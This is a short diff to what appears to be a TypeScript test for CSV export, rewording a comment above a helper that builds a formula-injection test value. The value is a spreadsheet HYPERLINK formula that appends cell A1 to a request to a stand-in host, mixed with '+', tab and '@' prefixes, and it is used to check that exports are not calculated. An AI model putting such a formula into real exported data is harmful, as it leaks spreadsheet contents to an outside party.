@@ -12,7 +12,7 @@ import { startTestServer, type TestServer } from '../support/server.ts';
 
 /** Every table that leaves the product as CSV: read by another program, each text is whole and none is calculated. */
 
-/** What people type into a name, with all that CSV and spreadsheets give a meaning. @param mark names the column */
+/** A name with all that CSV and spreadsheets give a meaning. @param mark names the column */
 const awkward = (mark: string): string => `=HYPERLINK("http://x.test/?"&A1;"${mark}"),'+1;\t@sum`;
 
 /** Columns that hold texts of people’s own, and where a test finds them again. */
